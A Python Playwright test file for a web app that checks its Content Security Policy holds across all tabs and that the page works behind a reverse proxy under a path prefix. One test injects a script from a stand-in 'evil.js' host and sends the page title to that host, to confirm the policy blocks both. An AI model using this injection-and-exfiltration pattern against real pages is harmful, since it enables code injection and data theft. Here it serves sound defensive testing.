"""The page keeps to its own security policy in every tab, and works under a path of a proxy."""

import contextlib
import http.server
import threading
import urllib.error
import urllib.request
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from etviz.checkpoints import save_checkpoint
from tests.browser.app import serving
from tests.browser.conftest import Visit

LISTEN = """
    window.violations = [];
    addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
"""


@pytest.fixture
def watched(browser, address):
    context = browser.new_context(viewport={"width": 1440, "height": 900}, reduced_motion="reduce")
    context.add_init_script(LISTEN)
    yield Visit(context, address)
    context.close()


def test_no_tab_breaks_the_pages_policy(watched):
    tabs = watched.page.get_by_role("tab")
    for tab in tabs.all():
        tab.click()
        expect(tab).to_have_attribute("aria-selected", "true")
        watched.page.wait_for_load_state("networkidle")
    assert tabs.count() == 8
    assert watched.page.evaluate("violations") == []
    assert not watched.complaints


def test_the_policy_forbids_what_the_page_does_not_do(watched):
    """A script from elsewhere, or data sent elsewhere, is stopped by the browser."""
    tried = watched.page.evaluate("""async () => {
        const script = document.createElement("script");
        script.src = "http://127.0.0.2:9/evil.js";
        document.head.append(script);
        await fetch("http://127.0.0.2:9/?" + document.title).catch(() => {});
        await new Promise((resolve) => setTimeout(resolve, 50));
        return violations.map((directive) => directive.replace("-elem", ""));
    }""")
    assert sorted(tried) == ["connect-src", "script-src"]


class Proxy(http.server.BaseHTTPRequestHandler):
    """Shows an app under /etviz/, as nginx does by default: the app sees another host, and no path."""

    protocol_version = "HTTP/1.0"

    def forward(self):
        if not self.path.startswith("/etviz/"):  # the browser looks for /favicon.ico by itself
            self.send_response(204 if self.path == "/favicon.ico" else 404)
            return self.end_headers()
        path = self.path.removeprefix("/etviz") if self.server.strips else self.path
        length = int(self.headers.get("Content-Length") or 0)
        headers = {name: value for name, value in self.headers.items() if name.lower() not in ("host", "connection")}
        asked = urllib.request.Request(
            self.server.upstream + path, self.rfile.read(length) or None, headers, method=self.command
        )
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with contextlib.suppress(OSError):  # the page has gone
            try:
                answer = opener.open(asked)
            except urllib.error.HTTPError as error:
                answer = error
            self.send_response(answer.status)
            for name, value in answer.headers.items():
                if name.lower() not in ("transfer-encoding", "connection", "date"):
                    self.send_header(name, value)
            self.end_headers()
            while chunk := answer.read1(65536):
                self.wfile.write(chunk)
                self.wfile.flush()

    do_GET = do_POST = do_HEAD = forward

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def proxied(model, browser, tmp_path_factory):
    """A proxy before an app of its own."""
    folder = tmp_path_factory.mktemp("proxied")
    save_checkpoint(model, folder / "tiny", {})
    options = ("--checkpoint", "tiny", "--data-root", str(folder), "--root-path", "/etviz")
    with (
        serving(*options, ETVIZ_CHECKPOINTS=str(folder)) as address,
        http.server.ThreadingHTTPServer(("127.0.0.1", 0), Proxy) as proxy,
    ):
        proxy.daemon_threads = True
        proxy.upstream = address.rstrip("/")
        threading.Thread(target=proxy.serve_forever, daemon=True).start()
        yield proxy
        proxy.shutdown()


@pytest.mark.parametrize("strips", [True, False])
def test_the_page_works_under_a_path_of_a_proxy(browser, proxied, strips):
    proxied.strips = strips
    place = f"127.0.0.1:{proxied.server_port}"
    context = browser.new_context(reduced_motion="reduce")
    visit = Visit(context, f"http://{place}/etviz/")
    visit.stroke(5, 12)
    visit.settle()
    expect(visit.root).to_have_attribute("data-shown", visit.read("mask"))
    urls = [urlsplit(url) for url in visit.requests if url.startswith("http")]
    context.close()
    assert {url.netloc for url in urls} == {place}
    assert all(url.path.startswith("/etviz/") for url in urls)
    assert not visit.complaints
